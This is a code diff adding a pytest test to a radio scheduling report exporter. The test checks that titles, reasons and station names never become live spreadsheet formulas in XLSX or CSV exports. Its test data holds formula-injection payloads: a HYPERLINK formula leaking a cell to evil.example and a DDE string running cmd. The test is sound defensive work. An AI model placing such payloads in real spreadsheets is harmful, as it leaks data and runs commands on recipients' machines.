@@ -15,9 +15,11 @@ import pytest
 from airtime_fixture import FIRST_DAY, NOW, STATIONS, TZ, Expected, build_world, oracle
 from openpyxl import load_workbook
 from pypdf import PdfReader
+from sqlalchemy import select
 from sqlalchemy.orm import Session, sessionmaker
 
-from scheduler.reports import Period, ReportRequest, build_report
+from scheduler.db.models import PlayLog, ProgrammeItem, Station
+from scheduler.reports import BY_CHOICES, Period, ReportRequest, build_report
 from scheduler.reports.airtime import AirtimeReport
 from scheduler.reports.exports import render_report, write_report
 from scheduler.reports.exports.charts import all_charts
@@ -186,3 +188,34 @@ def test_failed_render_leaves_no_file_behind(report_and_expected: ReportAndExpec
     with pytest.raises(ValueError, match="Định dạng «docx» không hỗ trợ"):
         write_report(report, "docx", target)
     assert list(tmp_path.iterdir()) == []
+
+
+PAYLOADS = ('=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd")
+
+
+@pytest.mark.parametrize("by", list(BY_CHOICES))
+def test_titles_reasons_and_names_from_data_never_become_live_formulas(sessions: sessionmaker[Session],
+                                                                      by: str) -> None:
+    build_world(sessions)
+    title, reason, name = PAYLOADS
+    with sessions.begin() as s:
+        for play in s.scalars(select(PlayLog).where(PlayLog.result.in_(("skipped", "failed")))):
+            play.title, play.reason = title, reason
+        for item in s.scalars(select(ProgrammeItem)):
+            item.title = title
+        for station in s.scalars(select(Station)):
+            station.name = name
+    with sessions() as s:
+        report = build_report(s, ReportRequest(WEEK, by=by), NOW, TZ)
+    workbook = load_workbook(io.BytesIO(render_report(report, "xlsx")))
+    texts = [c.value for ws in workbook.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    assert [c.coordinate for ws in workbook.worksheets for row in ws.iter_rows() for c in row
+            if c.data_type == "f"] == []
+    assert title in texts and reason in texts  # kept whole, as text, in «Lượt bỏ lỡ»
+    if by == "station":
+        assert name in texts
+    rows = list(csv.reader(io.StringIO(render_report(report, "csv").decode("utf-8-sig"))))
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]
+    if by == "station":
+        assert "'" + name in cells
